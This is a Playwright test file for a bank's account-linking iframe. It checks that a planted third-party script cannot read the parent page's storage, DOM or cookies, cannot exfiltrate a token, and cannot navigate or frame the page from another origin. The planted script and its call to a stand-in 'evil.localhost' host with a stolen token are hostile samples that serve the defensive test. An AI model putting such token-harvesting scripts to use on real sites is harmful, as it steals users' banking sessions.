import { linkingOriginFor } from '@coffer/branding/linking-host'
import type { Page } from '@playwright/test'
import { type Bank, expect, test } from '../journey.ts'
import { startSession } from '../people/browser-session.ts'
import { openLinkingWindow } from '../people/linking.ts'
import { linkingPage } from '../people/linking-page.ts'
import { heading } from '../people/log-in.ts'
import { demoDepositor, type Person } from '../people/person.ts'

/** A linking service's script that collects everything it can reach, on the linking page and after a click. */
const plantedScript = `
  const attempts = {
    'the storage of the tenant’s page': () => JSON.stringify(parent.sessionStorage),
    'the lasting storage of the tenant’s page': () => JSON.stringify(parent.localStorage),
    'the document of the tenant’s page': () => parent.document.documentElement.outerHTML,
    'a variable of the tenant’s page': () => String(parent.React),
    'the address of the tenant’s page': () => parent.location.href,
    'a name that the pages share': () => parent.name + window.name,
    'the parent domain': () => { document.domain = location.hostname.replace('link.', ''); return parent.document.title },
    'its own storage': () => Object.values(sessionStorage).concat(Object.values(localStorage)).join(),
    'its cookies': () => document.cookie,
    'where it came from': () => document.referrer,
  }
  const outcome = (attempt) => { try { return attempt() } catch (error) { return error.name } }
  window.found = Object.fromEntries(Object.entries(attempts).map(([name, attempt]) => [name, outcome(attempt)]))
  window.fastlink = {
    open: () => {
      const button = document.createElement('button')
      button.textContent = 'Continue'
      button.addEventListener('click', () => {
        window.navigated = outcome(() => { top.location.href = 'http://evil.localhost/'; return 'navigated' })
      })
      document.getElementById('linking').append(button)
    },
  }
`

async function openPlanted(page: Page, bank: Bank): Promise<Person> {
  const person = demoDepositor(bank, 'passed')
  await page.route('**/fastlink/**/initialize.js', (route) =>
    route.fulfill({ contentType: 'text/javascript', body: plantedScript }),
  )
  await startSession(page, person)
  await page.goto(`${bank.origin}/registration/link-account-selection`)
  await expect(heading(page, person.say('linking:link.title'))).toBeVisible()
  await openLinkingWindow(page, person)
  await expect(page.frameLocator('iframe').getByRole('button', { name: 'Continue' })).toBeVisible()
  return person
}

/** The URL of the error page that a browser shows in place of a blocked page. */
const refusedPage = /^(?:chrome-error:|about:neterror)/

test('A planted script of the linking service reads neither the token nor the page, calls no API, and cannot navigate', async ({
  page,
  bankOf,
}) => {
  const { bank } = await openPlanted(page, bankOf('harbor'))
  // The page itself has the token.
  expect(await page.evaluate(() => Object.values(sessionStorage).join())).toMatch(/"bearer":"[\w-]{40,}"/)
  const found = await (await linkingPage(page)).evaluate((): unknown => Reflect.get(window, 'found'))
  expect(found).toEqual({
    'the storage of the tenant’s page': 'SecurityError',
    'the lasting storage of the tenant’s page': 'SecurityError',
    'the document of the tenant’s page': 'SecurityError',
    'a variable of the tenant’s page': 'SecurityError',
    'the address of the tenant’s page': 'SecurityError',
    'a name that the pages share': 'SecurityError',
    'the parent domain': 'SecurityError',
    'its own storage': '',
    'its cookies': '',
    'where it came from': '',
  })

  const frame = await linkingPage(page)
  const outcomes = await frame.evaluate(async (origin) => {
    const call = async (address: string) => {
      const init: RequestInit = { credentials: 'include', mode: 'no-cors' }
      return fetch(address, init).then(
        ({ status }) => status,
        (error: unknown) => (error instanceof Error ? error.name : 'failed'),
      )
    }
    return {
      'the API of the tenant': await call(`${origin}/api/v1/user`),
      'the API at its own host': await call('/api/v1/user'),
      'another origin': await call('http://evil.localhost/?token=taken'),
    }
  }, bank.origin)
  expect(outcomes).toEqual({
    'the API of the tenant': 'TypeError',
    'the API at its own host': 421,
    'another origin': 'TypeError',
  })
  await page.frameLocator('iframe').getByRole('button', { name: 'Continue' }).click()
  expect(await frame.evaluate((): unknown => Reflect.get(window, 'navigated'))).toBe('SecurityError')
  expect(page.url()).toBe(`${bank.origin}/registration/link-account-selection`)
})

test('The page ignores messages of other windows and origins', async ({ page, bankOf }) => {
  const { bank, say } = await openPlanted(page, bankOf('harbor'))
  const closing = { from: 'linking-page', kind: 'close', payload: { status: 'USER_CLOSE_ACTION', sites: [] } }
  const closed = page.getByText(say('linking:instant.quit.title'))
  // Messages that arrive at the page are counted, so that no assertion runs before one has arrived.
  await page.evaluate(() => {
    window.addEventListener('message', () => {
      document.documentElement.dataset['messages'] += '.'
    })
    document.documentElement.dataset['messages'] = ''
  })
  const arrived = () => page.evaluate(() => document.documentElement.dataset['messages'])
  await page.evaluate((message) => window.postMessage(message, '*'), closing)
  await expect.poll(arrived).toBe('.')
  // A frame inside the linking page has its origin, but is not that page.
  await (
    await linkingPage(page)
  ).evaluate(() => {
    const inner = document.createElement('iframe')
    inner.src = '/fastlink/launch'
    document.body.append(inner)
  })
  const inner = () => page.frames().find((frame) => frame.url().endsWith('/fastlink/launch'))
  await expect.poll(() => inner()?.evaluate(() => document.readyState)).toBe('complete')
  await inner()?.evaluate((message) => window.top?.postMessage(message, '*'), closing)
  await expect.poll(arrived).toBe('..')
  await expect(closed).toBeHidden()
  // The page's policy refuses another origin in its frame. Chromium shows its error page there, Firefox the page before.
  await page.evaluate(() =>
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      document.documentElement.dataset['refused'] = effectiveDirective
    }),
  )
  await (await linkingPage(page)).evaluate((address) => location.assign(address), `${bank.origin}/offline.js`)
  await expect(page.locator('html[data-refused="frame-src"]')).toBeAttached()
  expect(page.frames().filter((frame) => frame.url().endsWith('/offline.js'))).toEqual([])
  await expect(closed).toBeHidden()
})

test('The linking page can be framed by its tenant only, and accepts a session from no other origin', async ({
  page,
  bankOf,
}) => {
  const { origin } = bankOf('harbor')
  const linking = linkingOriginFor(origin)
  await page.route('http://evil.localhost/', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${linking}/"></iframe>` }),
  )
  await page.goto('http://evil.localhost/')
  await expect.poll(() => page.frames().at(-1)?.url()).toMatch(refusedPage)
  // Opened directly, the linking page does nothing.
  await page.goto(`${linking}/`)
  await page.evaluate(
    (scriptUrl) => window.postMessage({ to: 'linking-page', scriptUrl, options: {} }, '*'),
    `${linking}/fastlink/v4/initialize.js`,
  )
  await expect(page.locator('script')).toHaveCount(1)
})
